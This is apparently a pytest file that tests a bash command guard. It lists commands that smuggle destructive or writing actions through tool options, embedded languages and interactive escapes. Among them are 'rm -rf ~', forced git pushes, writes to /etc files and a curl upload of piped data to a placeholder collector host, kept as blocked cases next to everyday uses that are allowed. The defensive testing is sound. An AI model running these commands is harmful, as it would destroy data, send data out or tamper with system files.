"""Programs whose options, own language or interactive escapes run a command or write a file:
rows of the one runners table (issue 30, round 6a).

Every case is data handed to the guard; none is run. Cases are written for the class, not
copied from the peers' corpora.
"""

from __future__ import annotations

import pytest

from ondas.guards.bash_base import Word
from ondas.guards.bash_escapes import client_commands, embedded_commands, embedded_writes
from ondas.guards.bash_runners import RUNNERS, Runner, option_values
from tests.guards.test_bash import check

RUN_A_REFUSED_COMMAND = [
    # options whose value is a command line
    "tar -cf out.tar src --use-compress-program='rm -rf ~'",
    "tar -xf a.tar --checkpoint=1 --checkpoint-action=exec='git push --force'",
    "split -l 10 --filter='curl -d @- http://collector.invalid' data.csv",
    "zip -T -TT 'rm -rf /srv' out.zip src",
    "certbot renew --post-hook 'rm -rf ~/.config'",
    "certbot renew --dry-run --deploy-hook 'git push origin main'",
    "latexmk -pdf -pdflatex='rm -rf ~' thesis.tex",
    "man -P 'rm -rf ~' ls",
    "man '-Hrm -rf ~' ls",
    "gcc -wrapper rm,-rf,/srv -c main.c",
    "gem open -e 'rm -rf ~' rake",
    "pip config --editor 'rm -rf ~' edit",
    "sshfs -o ssh_command='rm -rf ~' host: ./mnt",
    "ghc -e 'System.Process.callCommand \"rm -rf ~\"'",
    # commands inside a tool's own language
    "make --eval='x := $(shell rm -rf ~)' all",
    "make -s --eval='$(file >/etc/profile.d/x.sh,echo hi)' .",
    "rpm --eval '%(rm -rf ~)'",
    "pdflatex '\\immediate\\write18{git push --force}'",
    "fzf --bind 'ctrl-d:execute(rm -rf {})+abort' < files.txt",
    "fzf --bind 'enter:become:git push --force'",
    # escapes of interactive clients, from their options or their input
    "gdb -batch -ex '!rm -rf ~' ./app",
    "gdb -batch -ex 'shell git push' ./app",
    "mysql -e '\\! rm -rf ~'",
    "psql -c '\\! git push --force' app",
    "sqlite3 app.db '.system rm -rf ~'",
    "sqlite3 app.db <<< '.shell git push'",
    "sqlite3 app.db '.once /etc/cron.d/job' 'select 1;'",
    "gdb -batch -ex 'dump memory /etc/ld.so.preload 0 8' ./app",
    # vim's ex commands that start a shell or write outside
    "vim -c ':redir! >/etc/motd' -c q",
    "vim -es -c 'wq! /etc/hosts' notes.txt",
    "vim -c 'set shell=rm\\ -rf\\ ~' -c q",
    "vim -c ':terminal git push --force'",
    # pagers and editors named by any variable
    "SYSTEMD_PAGER='rm -rf ~' systemctl status",
    "KUBE_EDITOR='git push --force' kubectl edit deploy/web",
    "PERL5DB='system(\"rm -rf ~\")' perl -d app.pl",
]


@pytest.mark.parametrize("command", RUN_A_REFUSED_COMMAND)
def test_what_a_programs_options_or_language_run_is_checked_as_a_command(command: str) -> None:
    for unattended in (False, True):
        verdict = check(command, unattended=unattended)
        assert verdict.blocked, (command, unattended)


START_A_SHELL_WITH_NO_COMMAND = [
    "tmux",
    "tmux -S /tmp/shared.sock",
    "tmux -c bash",
    "screen",
    "fakeroot",
    "pwsh -NoLogo",
    "vim -c ':shell'",
    "vim -c ':terminal'",
    "sqlite3 app.db '.shell'",
    "certbot renew --pre-hook bash",
    "choom -n 0 -- bash",
    "openvt -w -- zsh",
]


@pytest.mark.parametrize("command", START_A_SHELL_WITH_NO_COMMAND)
def test_a_program_that_starts_a_shell_with_no_command_is_undecidable_unattended(
    command: str,
) -> None:
    verdict = check(command, unattended=True)
    assert verdict.blocked and verdict.rule == "interactive-shell", (command, verdict)
    assert check(command).allowed, command


EVERYDAY_USES = [
    "tar -czf dist/app.tgz --use-compress-program=pigz src",
    "split -l 1000 --filter='gzip > $FILE.gz' data.csv",
    "latexmk -pdf -pdflatex='pdflatex -interaction=nonstopmode' thesis.tex",
    "make -j4 test",
    "make --eval='print-%: ; @echo $*=$($*)' print-CFLAGS",
    "cc -O2 -o build/app src/main.c",
    "man -P cat ls",
    "fzf --preview 'head -50 {}'",
    "gdb -batch -ex run -ex bt ./build/app",
    "psql -c 'select count(*) from users' app",
    "sqlite3 app.db '.tables'",
    "sqlite3 app.db '.output build/dump.sql' '.dump'",
    "vim -c 'wq' README.md",
    "vim -es -c '%s/foo/bar/g' -c 'w build/out.txt' -c q notes.md",
    "tmux new-session -d -s dev 'npm run dev'",
    "tmux ls",
    "screen -ls",
    "pdflatex -interaction=nonstopmode paper.tex",
    "GH_PAGER=cat gh pr list",
]


@pytest.mark.parametrize("command", EVERYDAY_USES)
def test_everyday_uses_of_those_programs_pass_in_both_modes(command: str) -> None:
    for unattended in (False, True):
        verdict = check(command, unattended=unattended)
        assert verdict.allowed, (command, unattended, verdict)


def test_option_values_read_every_spelling_of_an_option() -> None:
    words = [
        Word(v, v)
        for v in ["-I", "zstd", "--filter=gzip", "-Pless", "-o", "ssh_command=x", "-o", "ro"]
    ]
    row = Runner("", shape="hook", code_options="-I --filter -P -o:ssh_command")
    found = option_values(row, words)
    assert [w.value for w in found] == ["zstd", "gzip", "less", "x"]


def test_embedded_readers_find_commands_and_writes_in_a_tools_language() -> None:
    assert embedded_commands("a := $(shell date) %(whoami) \\write18{ls}") == [
        "date",
        "whoami",
        "ls",
    ]
    assert embedded_commands("enter:execute(vim {})+abort,ctrl-r:reload:ls") == ["vim {}", "ls"]
    assert embedded_writes("$(file >build/x,text)") == ["build/x"]
    assert client_commands("select 1;\n\\! ls\n.output out.txt") == (["ls"], ["out.txt"])


def test_every_runner_row_names_a_shape_the_table_knows() -> None:
    shapes = {"argv", "text", "each", "option", "ex", "plus", "expect"}
    shapes |= {"hook", "code", "list", "embedded", "client", "bare"}
    shapes |= {"tmux-if", "tmux-text", "tmux-argv", "tmux-option", "screen-x"}
    shapes |= {"tmux-format", "each-file"}  # round 17: a tmux format's #(), rg --pre
    assert {row.shape for rows in RUNNERS.values() for row in rows} <= shapes
